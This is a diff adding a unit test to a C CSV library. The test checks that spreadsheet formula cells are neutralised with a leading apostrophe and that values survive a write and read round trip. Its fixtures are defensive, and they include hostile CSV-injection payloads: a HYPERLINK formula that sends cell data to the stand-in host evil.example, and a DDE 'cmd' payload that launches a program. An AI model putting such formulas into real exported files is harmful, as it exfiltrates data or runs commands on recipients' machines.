@@ -120,6 +120,59 @@ static void test_send_window(void **state)
         assert_int_equal(config_send_window_parse(bad[i], &a, &b), -1);
 }
 
+/* OWASP CSV injection: cells a spreadsheet would run are written with a
+ * leading apostrophe, plain numbers are not, and reading the file back gives
+ * every value exactly as it was. */
+static void test_formulas_neutralised_and_round_trip(void **state)
+{
+    (void)state;
+    static const char *const cells[] = {
+        "=HYPERLINK(\"http://evil.example/?\"&A2,\"Voir\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\tleading tab",
+        "\rleading cr",
+        "'=already quoted",
+        "+212612345678",
+        "-5",
+        "1500.50",
+        "Fatima Zahra",
+        "'plain apostrophe",
+        "",
+    };
+    static const bool neutral[] = {true,  true,  true,  true,  true,  true, true,
+                                   false, false, false, false, false, false};
+    size_t n = sizeof cells / sizeof cells[0];
+    struct csvio_out o;
+    csvio_out_init(&o, 1 << 16);
+    csvio_out_field(&o, "value");
+    csvio_out_end_row(&o);
+    for (size_t i = 0; i < n; i++) {
+        assert_int_equal(csvio_needs_neutralising(cells[i], strlen(cells[i])), neutral[i]);
+        csvio_out_field(&o, cells[i]);
+        csvio_out_field(&o, "x"); /* keep rows of empty cells from being skipped */
+        csvio_out_end_row(&o);
+    }
+    assert_false(o.failed);
+    assert_non_null(strstr(o.data, "\"'=HYPERLINK("));
+    assert_non_null(strstr(o.data, "\"'@SUM(A1:A2)\""));
+    assert_non_null(strstr(o.data, "\"'-2+3\""));
+    assert_non_null(strstr(o.data, "\"''=already quoted\""));
+    assert_non_null(strstr(o.data, "\"+212612345678\""));
+    assert_null(strstr(o.data, "\"'+212"));
+    struct csvio_table t;
+    char err[160];
+    assert_int_equal(csvio_parse(o.data, o.len, &t, err, sizeof err), 0);
+    assert_int_equal(t.nrows, n + 1);
+    for (size_t i = 0; i < n; i++) {
+        /* Unquoted spaces are trimmed by the reader; ours are all quoted. */
+        assert_string_equal(t.rows[i + 1].fields[0], cells[i]);
+    }
+    csvio_table_free(&t);
+    free(o.data);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -128,6 +181,7 @@ int main(void)
         cmocka_unit_test(test_empty_and_too_wide),
         cmocka_unit_test(test_writer),
         cmocka_unit_test(test_send_window),
+        cmocka_unit_test(test_formulas_neutralised_and_round_trip),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
